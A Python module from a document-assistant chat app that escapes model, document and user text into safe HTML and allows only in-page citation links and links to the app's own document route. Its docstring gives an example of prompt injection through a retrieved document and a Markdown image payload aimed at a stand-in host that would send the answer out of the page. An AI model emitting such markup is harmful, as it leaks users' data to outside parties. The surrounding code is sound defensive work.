"""The chat's HTML: the model's answer and the passages it stands on, with every character of model,
document and user text escaped, so the only markup the browser gets is the markup written here.

A model's answer is not trusted text: a document can tell it what to write, and Markdown such as
`![](http://outside.example/?q=<the answer>)` makes the browser send data to another origin with
no click. So nothing from the model or a document is ever interpreted: it is `html.escape`d, and
only two kinds of link exist, both ours:

- a citation `[n]` naming one of the `n_sources` passages becomes `<a href="#source-n" class="cite">`,
  a jump within the page to that passage (any other `[n]` stays text);
- a link to the app's own document route, `/documents/<collection>/<chunk id>` (ui/web/documents.py),
  made only by `internal_link`, which refuses anything but a relative path under that route: the
  "open" of each source, to the original PDF at its page (`#page=N`) or the document's text with
  the passage in view (`#passage`). The route checks the user may read the collection; the link
  carries no file path, only the collection and the chunk id the store gave.

Sources show the path of a passage's file inside the folder it was ingested from, its page (a
slide for a presentation) and heading (`Passage.label(relative=True)`), never the server's
absolute path, and "text from OCR" when the passage was read from a scan (it may hold
misreadings). Chunks stored before the ingested folder was kept in their metadata show the file
name alone until their file is ingested again.

Numbering: an answer's sources are listed in the order it first cites them, and each keeps the
number of the excerpt it was in the prompt, which is what the answer's markers say: an answer
citing [3] then [1] lists "[3] ..." then "[1] ...", and its [3] jumps to `#<anchor>-3`
(`source_numbers`). The passages shown while the answer is still being written are not the
prompt's excerpts in the prompt's order, so they are listed unnumbered and the streaming text's
markers link nowhere until the answer is finished.

How Gradio 6.31's `gr.Chatbot` treats a message's text (read in gradio/components/chatbot.py and
the frontend bundle templates/frontend/assets/: markdown-code-*.js, browser-*.js, Index-*.js):

- Python side: a string message becomes a TextMessage through `inspect.cleandoc` (leading and
  trailing blank lines and common indentation dropped), nothing else.
- `render_markdown=True` (the default) parses the text with `marked` (GFM: images, links,
  autolinks and raw HTML all pass through), and code blocks tagged `mermaid` are drawn by mermaid.
  `render_markdown=False` inserts the string as HTML as it is (`template.innerHTML`) and gives the
  bubble `white-space: pre-line`.
- `sanitize_html=True` (the default) runs an allowlist sanitiser (amuchina, Sanitizer API
  defaults, `<style>`/`<link>`/`<meta>` removed) before insertion: it drops scripts, event handlers
  and `javascript:` links, but KEEPS `<img src=...>`, `style=` attributes and links to any origin
  (adding target=_blank). It stops script, not a request leaving the page, so it cannot be the
  defence here; it stays on as a second layer behind the escaping, and the content security
  policy of ui/web/security.py is the third.
- `latex_delimiters` (default `$$...$$`) runs KaTeX over any message holding both delimiters,
  with or without Markdown; `[]` turns it off.
- `allow_tags` (default True) escapes the `<` of tags Gradio does not know before sanitising;
  False leaves the string alone. The markup written here uses standard tags only.
- `reasoning_tags` (default None) would cut text between given tags out into a separate message.

Decision: the web app passes the strings made here (`question_html`, `answer_html` + `sources_html`)
as message contents of a Chatbot built with `CHATBOT_OPTIONS`:

    gr.Chatbot(..., render_markdown=False, sanitize_html=True, latex_delimiters=[], allow_tags=False,
               reasoning_tags=None)

Checked in Chromium against a real Chatbot (tests/ui/test_render.py): with the default options a
raw hostile answer made the page request outside.example three times (two images, a `style`
background) although `sanitize_html` was on; with these options and this module's HTML it
requested nothing, showed every hostile string as text, and kept our `a.cite` and
`details#source-n` through Gradio's sanitiser.

With `render_markdown=False` a bare string is HTML, so every message, the user's own question
included, must come from this module. The output holds no newline (a line break of the text is a
`<br>`), so it looks the same with or without `pre-line` and survives `cleandoc`.
"""
from __future__ import annotations

import html
import re
from dataclasses import dataclass
from typing import Sequence
from urllib.parse import quote, urlsplit

from assistant.passage import Passage

# gr.Chatbot(**CHATBOT_OPTIONS): our HTML as it is, nothing of the text interpreted (see above).
# No "share" button: Gradio's posts the conversation to Hugging Face Spaces discussions.
CHATBOT_OPTIONS = {"render_markdown": False, "sanitize_html": True, "latex_delimiters": [], "allow_tags": False,
                   "reasoning_tags": None, "buttons": ["copy", "copy_all"]}

DOCUMENT_ROUTE = "/documents/"
SNIPPET_CHARS = 220
PASSAGE_ANCHOR = "passage"  # the id of the cited passage on a document's text page

_CITATION = re.compile(r"\[(\d+)\]")  # citations.py has already written each as one [n]
_ANCHOR = re.compile(r"[a-z][a-z0-9-]*")
_UNSAFE_IN_PATH = re.compile(r"[\x00-\x1f\x7f\\]")
_FRAGMENT = re.compile(r"page=[1-9][0-9]{0,5}|[a-z][a-z0-9-]*")
# What a collection name (assistant.store) and a chunk id may hold: one path segment each, never a dot segment.
_ID_SEGMENT = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]{0,127}")


def _text(text: str) -> str:
    """Model, document or user text as HTML that shows exactly that text and means nothing."""
    escaped = html.escape(text.replace("\r\n", "\n").replace("\r", "\n"), quote=True)
    return escaped.replace("\n", "<br>")


def _anchor(anchor: str) -> str:
    if not _ANCHOR.fullmatch(anchor):
        raise ValueError(f"not an anchor name: {anchor!r}")
    return anchor


def status_html(text: str) -> str:
    """A line of our own (searching, writing, pick a collection), styled apart from answers."""
    return f'<p class="status"><em>{_text(text)}</em></p>'


def question_html(text: str) -> str:
    """The user's question as a chat message (shown as typed, never interpreted)."""
    return f'<div class="question">{_text(text)}</div>'


def source_numbers(text: str, n_sources: int) -> list[int]:
    """The number each of an answer's `n_sources` sources is cited by, in the order they are listed.

    The answerer lists the cited excerpts in the order the answer first cites them, and the
    markers keep the excerpts' numbers: "[3] ... [1]" has sources (excerpt 3, excerpt 1), so they
    are numbered [3, 1]. An answer that cites nothing (its sources are all the excerpts it was
    given, or a refusal's passages checked) numbers them 1..n. Only the first `n_sources` distinct
    markers count: a line the answerer adds after the answer may quote the user's own "[5]"."""
    cited = list(dict.fromkeys(int(number) for number in _CITATION.findall(text)))
    if n_sources and len(cited) >= n_sources and 0 not in cited[:n_sources]:
        return cited[:n_sources]
    return list(range(1, n_sources + 1))


def answer_html(text: str, n_sources: int, *, anchor: str = "source", numbers: Sequence[int] | None = None) -> str:
    """The model's answer, escaped, with each citation of a shown source a link to that source.

    `anchor` names the sources' ids (`source-1`, ...); a page showing several answers can give
    each its own so that a citation jumps to its own answer's source. `numbers` are the numbers
    the sources are shown under (`source_numbers`); without it, 1..n_sources."""
    anchor = _anchor(anchor)
    linked = set(numbers) if numbers is not None else set(range(1, n_sources + 1))

    def cite(match: re.Match) -> str:
        number = int(match.group(1))
        if number not in linked:
            return match.group(0)
        return f'<a href="#{anchor}-{number}" class="cite">[{number}]</a>'

    # Escaping leaves `[`, `]` and digits as they are, so markers are found in the escaped text.
    return f'<div class="answer">{_CITATION.sub(cite, _text(text))}</div>'


def sources_html(passages: Sequence[Passage], heading: str, *, anchor: str = "source",
                 quotes: Sequence[str] = (), numbers: Sequence[int] | None = None, numbered: bool = True) -> str:
    """The passages under a heading, numbered as the answer cites them (`numbers`, see
    `source_numbers`; 1..n without it); each shows its file, page and heading, an "open" link to
    its document, and the sentence(s) the answer relies on (`quotes`, one string per passage),
    highlighted in the summary line and in the passage it opens to. `numbered=False` lists them
    without numbers or ids (passages found, before an answer has cited any)."""
    if not passages:
        return ""
    anchor = _anchor(anchor)
    items = []
    for index, passage in enumerate(passages):
        number = numbers[index] if numbers is not None and index < len(numbers) else index + 1
        snippet = " ".join(passage.text.split())
        short = snippet[:SNIPPET_CHARS] + ("…" if len(snippet) > SNIPPET_CHARS else "")
        quote = " ".join(quotes[index].split()) if index < len(quotes) else ""
        shown = f"“<mark>{_text(quote)}</mark>”" if quote and quote in snippet else _text(short)
        ocr = ('<em class="ocr" title="read by OCR from a scan: check the original">text from OCR</em> '
               if passage.ocr_confidence is not None else "")
        href = document_href(passage)
        where = (f"the document at page {passage.page}" if passage.page is not None and passage.file_type == "pdf"
                 else "the document's text at this passage")
        opener = (f'<a class="open" href="{href}" target="_blank" rel="noopener" title="Open {where}">open</a> '
                  if href else "")
        ident = f' id="{anchor}-{number}"' if numbered else ""
        prefix = f"[{number}] " if numbered else ""
        items.append(f'<details class="source"{ident}><summary><strong>{prefix}'
                     f'{_text(passage.label(relative=True))}</strong> {ocr}{opener}— {shown}</summary>'
                     f'<p class="passage">{_highlighted(snippet, quote)}</p></details>')
    title = f'<p class="sources-heading"><strong>{_text(heading)}</strong></p>'
    return f'<div class="sources">{title}{"".join(items)}</div>'


def document_href(passage: Passage) -> str | None:
    """The "open" link of a passage: its collection and chunk id under the document route, at its
    page for a PDF (the browser's viewer opens there) and at the passage for the text page of
    any other file. None when the passage has no collection or id a link can name."""
    collection, chunk_id = passage.collection, passage.chunk_id
    if not (_ID_SEGMENT.fullmatch(collection or "") and _ID_SEGMENT.fullmatch(chunk_id or "")):
        return None
    page = passage.page if passage.file_type == "pdf" else None
    return internal_link(f"{DOCUMENT_ROUTE}{collection}/{chunk_id}",
                         fragment=f"page={page}" if page is not None else PASSAGE_ANCHOR)


def _highlighted(text: str, quote: str) -> str:
    """The text, escaped, with the quote's first occurrence in <mark>."""
    start = text.find(quote) if quote else -1
    if start < 0:
        return _text(text)
    end = start + len(quote)
    return f"{_text(text[:start])}<mark>{_text(quote)}</mark>{_text(text[end:])}"


def internal_link(path: str, fragment: str = "") -> str:
    """The href of a page of the app's document route: `path` must be an absolute path under
    /documents/ on this same origin (no scheme, host, query, fragment, backslash, control character
    or `.`/`..` segment); anything else is refused with ValueError. The result is percent-encoded
    (a space or quote of a file name included), so it is safe inside a quoted attribute.
    `fragment` is `page=N` (a PDF viewer's page) or an anchor name, nothing else."""
    if fragment and not _FRAGMENT.fullmatch(fragment):
        raise ValueError(f"not a fragment of the document route: {fragment!r}")
    if not isinstance(path, str) or not path.startswith(DOCUMENT_ROUTE) or _UNSAFE_IN_PATH.search(path):
        raise ValueError(f"not a link to the document route: {path!r}")
    parts = urlsplit(path)
    if parts.scheme or parts.netloc or parts.query or parts.fragment or parts.path != path:
        raise ValueError(f"not a link to the document route: {path!r}")
    if any(segment in (".", "..") for segment in path.split("/")):
        raise ValueError(f"not a link to the document route: {path!r}")
    return html.escape(quote(path, safe="/") + (f"#{fragment}" if fragment else ""), quote=True)


# ---------------------------------------------------------------- a document's text page

@dataclass(frozen=True)
class DocumentBlock:
    """A stretch of a document's text under one page and heading; `cited` is the span of the
    cited passage within `text`, if it lies here."""
    label: str
    text: str
    cited: tuple[int, int] | None = None


_PAGE_TEXTS = {
    "en": {"collection": "Collection", "cited": "The cited passage is highlighted.",
           "ocr": "This text was read by OCR from a scan: check the original."},
    "fr": {"collection": "Collection", "cited": "Le passage cité est surligné.",
           "ocr": "Ce texte a été lu par OCR sur un document numérisé : vérifiez l'original."},
}


def document_page(title: str, collection: str, blocks: Sequence[DocumentBlock], *, notice: str = "",
                  link: tuple[str, str] | None = None, ocr: bool = False, language: str = "en") -> str:
    """A whole HTML page of ours showing a document's text, every character of it escaped, with the
    cited passage in a <mark id="passage"> the link's `#passage` scrolls to. No script, no image,
    nothing fetched: the page's only link is `link` (an href made by `internal_link`, its text)."""
    t = _PAGE_TEXTS.get(language, _PAGE_TEXTS["en"])
    parts = []
    for block in blocks:
        heading = f'<h2>{_text(block.label)}</h2>' if block.label else ""
        if block.cited is None:
            body = _text(block.text)
        else:
            start, end = block.cited
            body = (f'{_text(block.text[:start])}<mark id="{PASSAGE_ANCHOR}" class="cited">'
                    f'{_text(block.text[start:end])}</mark>{_text(block.text[end:])}')
        parts.append(f'<section>{heading}<p>{body}</p></section>')
    note = f'<p class="notice" role="alert">{_text(notice)}</p>' if notice else ""
    ocr_note = f'<p class="ocr">{_text(t["ocr"])}</p>' if ocr else ""
    original = f'<p><a class="original" href="{link[0]}">{_text(link[1])}</a></p>' if link else ""
    cited = f'<p class="hint">{_text(t["cited"])}</p>' if any(b.cited for b in blocks) else ""
    return (f'<!doctype html><html lang="{_anchor(language)}"><head><meta charset="utf-8">'
            '<meta name="viewport" content="width=device-width, initial-scale=1">'
            f'<title>{_text(title)} — Document assistant</title><style>'
            "body{font-family:system-ui,sans-serif;max-width:50rem;margin:0 auto;padding:1rem 1.5rem;line-height:1.5;"
            "color:#1f2937}header{border-bottom:1px solid #d1d5db;margin-bottom:1rem}h1{font-size:1.3rem;"
            "word-break:break-all}h2{font-size:1rem;color:#4b5563;margin-top:1.5rem}"
            "mark.cited{background:#fde68a;padding:.1rem 0;scroll-margin-top:30vh}"
            ".notice{background:#fee2e2;color:#991b1b;padding:.5rem .75rem;border-radius:4px}"
            ".ocr,.hint{color:#4b5563;font-size:.9rem}</style></head><body><header>"
            f'<h1>{_text(title)}</h1><p>{_text(t["collection"])}: {_text(collection)}</p>'
            f'{note}{ocr_note}{cited}{original}</header><main>{"".join(parts)}</main></body></html>')
